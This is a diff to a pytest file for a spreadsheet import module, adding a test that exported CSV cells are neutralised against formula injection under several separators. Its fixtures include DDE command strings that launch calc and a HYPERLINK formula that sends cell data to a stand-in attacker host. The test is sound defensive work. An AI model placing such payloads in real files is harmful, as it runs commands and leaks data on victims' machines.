@@ -1,6 +1,7 @@
 """Reading a spreadsheet to import (core/imports.py): CSV in the encodings
 Excel writes, .xlsx, the dates people type, and a clear refusal for every
 hostile or broken file, never an exception a person would see as a 500."""
+import csv
 import io
 import zipfile
 from datetime import date, datetime
@@ -10,6 +11,7 @@ import pytest
 
 from core import imports
 from core.imports import BadDate, ImportRefused, read_table
+from core.spreadsheets import csv_file
 
 
 def xlsx(rows, *, formula=None) -> bytes:
@@ -141,6 +143,18 @@ def test_refused_rows_are_written_with_formulas_neutralised():
     checks = [imports.RowCheck(2, {"name": "=cmd|' /C calc'!A0"}, problems=[imports.Problem("name", "Formula")])]
     body = imports.refused_rows_file(kind, checks).decode("utf-8-sig")
     assert "'=cmd" in body and "Name: Formula" in body
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_no_cell_of_a_written_file_is_a_formula_whatever_separator_excel_splits_it_on(delimiter):
+    """Found by an attack: cells with a formula after a ";" inside them were
+    written as they were, and Excel set to split on ";" ran them."""
+    cells = ['Jan;=HYPERLINK("http://evil.example/?"&A1,"Click")', "Bob ;@SUM(1+1)*cmd|'/C calc'!A0",
+             'Org, with comma;=1+1', "Tab\t-2+3", 'x,"=1', "+44 1536 400400", "Ann; Ben", "-"]
+    written = csv_file(["Cell"], [[cell] for cell in cells]).decode("utf-8-sig")
+    read = [cell.strip() for row in csv.reader(io.StringIO(written), delimiter=delimiter) for cell in row]
+    assert read and not [cell for cell in read if cell.lstrip('"').startswith(("=", "+", "-", "@"))]
+    assert "Ann; Ben" in written  # words after a separator are left as they are
 
 
 @pytest.mark.parametrize("text", ["=1+1", "+SUM(A1)", "@cmd", "-2+3+cmd|' /C calc'!A0", " =HYPERLINK()", "-A1"])
